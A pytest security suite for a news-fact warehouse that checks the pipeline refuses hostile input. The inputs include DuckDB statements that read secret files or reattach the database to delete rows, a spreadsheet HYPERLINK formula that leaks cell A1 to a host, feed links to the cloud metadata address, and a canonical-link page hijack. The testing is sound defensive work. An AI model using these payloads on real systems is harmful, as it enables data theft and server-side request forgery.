"""Fault suite, security: what an analyst's query, a report reader, a hostile page or a hostile
feed can make the pipeline do. Network cases talk only to loopback servers the tests start."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys

import duckdb
import pytest
from hostile_site import read_rows

from newsfacts.warehouse.db import open_reader
from newsfacts.warehouse.sql import QueryError, run_query


def count_facts(db) -> int:
    return read_rows(db, "SELECT count(*) FROM fact_rows")[0][0]


@pytest.fixture
def warehouse(demo_warehouse, tmp_path):
    copy = tmp_path / "w.duckdb"
    shutil.copyfile(demo_warehouse, copy)
    return copy


def refused(db, sql: str) -> str:
    with pytest.raises(QueryError) as caught:
        run_query(db, sql)
    message = str(caught.value)
    assert "\n" not in message, message
    return message


# --- newsfacts sql: read-only and confined to the warehouse ------------------------------------

def test_detach_and_reattach_read_write_cannot_delete_facts(warehouse):
    before = count_facts(warehouse)
    assert before > 0
    path = str(warehouse).replace("'", "''")
    attack = (f"USE memory; DETACH newsfacts; ATTACH '{path}' AS newsfacts; "
              "DELETE FROM newsfacts.fact_rows")
    assert "DETACH" in refused(warehouse, attack) or "USE" in refused(warehouse, attack)
    for statement in ("USE memory", "DETACH newsfacts", f"ATTACH '{path}' AS rw"):
        refused(warehouse, statement)
    assert count_facts(warehouse) == before


@pytest.mark.parametrize("query", [
    "SELECT * FROM read_text('{secret}')",
    "SELECT * FROM read_csv('{secret}')",
    "SELECT * FROM read_blob('{secret}')",
    "SELECT * FROM glob('{folder}/*')",
])
def test_queries_cannot_read_files(warehouse, tmp_path, query):
    secret = tmp_path / "secret.txt"
    secret.write_text("password=hunter2\n")
    message = refused(warehouse, query.format(secret=secret, folder=tmp_path))
    assert "hunter2" not in message and "refused" in message


@pytest.mark.parametrize("query", [
    "COPY (SELECT * FROM fact_rows) TO '{out}'",
    "ATTACH '{out}' AS fresh",
    "EXPORT DATABASE '{out}'",
])
def test_queries_cannot_write_files_or_create_databases(warehouse, tmp_path, query):
    out = tmp_path / "written"
    message = refused(warehouse, query.format(out=out))
    assert "refused" in message
    assert not out.exists()


@pytest.mark.parametrize("query", [
    "INSTALL httpfs FROM 'http://127.0.0.1:9/'",
    "LOAD httpfs",
    "SET custom_extension_repository = 'http://127.0.0.1:9/'",
    "SELECT 1; DELETE FROM fact_rows",
    "PRAGMA enable_external_access",
])
def test_settings_extensions_and_writes_are_refused(warehouse, query):
    before = count_facts(warehouse)
    assert "refused" in refused(warehouse, query)
    assert count_facts(warehouse) == before


def test_the_reader_connection_itself_is_confined(warehouse, tmp_path):
    """Defence in depth: even code that bypasses the statement screen cannot reach files."""
    (tmp_path / "secret.txt").write_text("x\n")
    con = open_reader(warehouse)
    try:
        for sql in (f"SELECT * FROM read_text('{tmp_path / 'secret.txt'}')",
                    "SET enable_external_access = true",
                    "SET autoload_known_extensions = true"):
            with pytest.raises(duckdb.Error):
                con.execute(sql)
        databases = [name for (name,) in con.execute(
            "SELECT database_name FROM duckdb_databases() WHERE NOT internal").fetchall()]
        assert databases == ["memory", "newsfacts"] or databases == ["newsfacts", "memory"]
    finally:
        con.close()


def test_plain_queries_still_work(warehouse):
    columns, rows = run_query(warehouse, "WITH f AS (SELECT * FROM facts) SELECT count(*) AS n FROM f")
    assert columns == ["n"] and rows[0][0] > 0
    assert run_query(warehouse, "EXPLAIN SELECT 1")[1]


def test_cli_refuses_with_one_line(warehouse, tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "newsfacts.cli", "sql", "--db", str(warehouse),
         f"COPY (SELECT 1) TO '{tmp_path / 'x.csv'}'"],
        capture_output=True, text=True, timeout=120)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "refused" in result.stderr
    assert not (tmp_path / "x.csv").exists()


# --- the CSV report: no formula injection ------------------------------------------------------

def test_csv_report_neutralises_formula_cells(tmp_path):
    import csv
    import io

    from review_docs import STALE_URL, review_docs

    from newsfacts.warehouse.report import render_report

    from test_warehouse_support import Fact, run_once

    docs = review_docs()              # the documents the report tests use: one contradiction
    news = next(d for d in docs if d.url == STALE_URL)
    news.publisher = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
    news.facts = [Fact(**{**f.__dict__, "sentence": f"@SUM(1+1) {f.sentence}"}) for f in news.facts]
    run_once(tmp_path / "w.duckdb", docs)
    con = open_reader(tmp_path / "w.duckdb")
    try:
        rows = list(csv.DictReader(io.StringIO(render_report(con, "csv"))))
    finally:
        con.close()
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@")), (column, cell)
            if cell.startswith("-"):  # only numbers may start with a minus
                float(cell)
    assert any(r["publisher"] == "'" + news.publisher for r in rows)
    assert any(r["sentence"].startswith("'@SUM(1+1) ") for r in rows)


# --- server-side request forgery: feeds and redirects may not lead inside ------------------------

@pytest.fixture
def inside(tmp_path, serve_site):
    """A private service the attacker wants reached: a second server on another loopback address."""
    from newsfacts.demo_site import DemoSite

    root = tmp_path / "inside"
    root.mkdir()
    (root / "secret.html").write_text("<html><body><p>internal admin page</p></body></html>")
    with DemoSite(root, host="127.0.0.2") as site:
        yield site


def test_a_feed_link_to_a_private_address_is_refused(tmp_path, serve_site, inside, extractor):
    from hostile_site import DEAL, article, config_for, rss, rss_source, run, write_site

    site = serve_site(write_site(tmp_path / "site", {
        "feed.xml": rss({"title": "Good", "link": "{{base}}/good.html"},
                        {"title": "Inside", "link": inside.url("/secret.html")},
                        {"title": "Metadata", "link": "http://169.254.169.254/latest/meta-data/"}),
        "good.html": article("Good", DEAL),
    }))
    feeds, pages, extracted, articles = run(
        config_for(rss_source("s", site.url("/feed.xml"))), tmp_path / "w.duckdb", extractor)
    assert inside.hits["/secret.html"] == 0
    errors = {result.url: result.error for _c, result in pages.pages}
    assert "private address" in errors[inside.url("/secret.html")]
    assert "private address" in errors["http://169.254.169.254/latest/meta-data/"]
    assert errors[site.url("/good.html")] is None and articles.new >= 1


def test_a_redirect_hop_to_a_private_address_is_refused(tmp_path, serve_site, inside):
    from hostile_site import fetch_one, write_site

    root = write_site(tmp_path / "site", {"_routes.json": json.dumps(
        {"redirects": {"/go": inside.url("/secret.html")}})})
    site = serve_site(root)
    result = fetch_one(site.url("/go"), trusted_urls=[site.url("/feed.xml")])
    assert result.status is None and "private address" in result.error
    assert result.final_url == inside.url("/secret.html")
    assert inside.hits["/secret.html"] == 0


def test_private_addresses_are_fetched_when_the_setting_allows_it(tmp_path, serve_site, inside):
    from hostile_site import config_for, fetch_one, rss_source

    config = config_for(rss_source("s", "http://127.0.0.1:1/feed.xml"),
                        settings="allow_private_addresses = true")
    assert config.allow_private_addresses
    result = fetch_one(inside.url("/secret.html"), allow_private_addresses=True)
    assert result.ok and inside.hits["/secret.html"] == 1
    # the configured source's own host and port are trusted without the setting
    result = fetch_one(inside.url("/secret.html"), trusted_urls=[inside.url("/feed.xml")])
    assert result.ok


# --- canonical links: a page cannot take over another site's stored article ----------------------

def test_a_canonical_link_cannot_overwrite_another_sites_article(tmp_path, serve_site, extractor):
    from hostile_site import DEAL, article, config_for, rss, rss_source, run, write_site

    from newsfacts.demo_site import DemoSite
    from newsfacts.warehouse.db import open_reader

    victim = serve_site(write_site(tmp_path / "victim", {
        "feed.xml": rss({"title": "Deal", "link": "{{base}}/deal.html"}),
        "deal.html": article("Deal", DEAL),
    }))
    db = tmp_path / "w.duckdb"
    run(config_for(rss_source("victim", victim.url("/feed.xml"))), db, extractor)
    con = open_reader(db)
    before = con.execute("SELECT canonical_url, text FROM article_rows").fetchall()
    facts_before = con.execute("SELECT count(*) FROM fact_rows").fetchall()[0][0]
    con.close()
    assert len(before) == 1 and facts_before >= 1

    hijack = article("Deal", "Nothing to see here; no deal at all.",
                     head=f'<link rel="canonical" href="{victim.url("/deal.html")}">')
    with DemoSite(write_site(tmp_path / "attacker", {
        "feed.xml": rss({"title": "Deal", "link": "{{base}}/deal.html"}), "deal.html": hijack,
    }), host="127.0.0.2") as attacker:
        run(config_for(rss_source("attacker", attacker.url("/feed.xml")),
                       settings="allow_private_addresses = true"), db, extractor)
    con = open_reader(db)
    after = dict(con.execute("SELECT canonical_url, text FROM article_rows").fetchall())
    facts_after = con.execute("SELECT count(*) FROM fact_rows").fetchall()[0][0]
    con.close()
    assert after[before[0][0]] == before[0][1]       # the victim's text is intact
    assert facts_after == facts_before                # and so are its facts
    assert len(after) == 2                           # the attacker's page is stored as itself
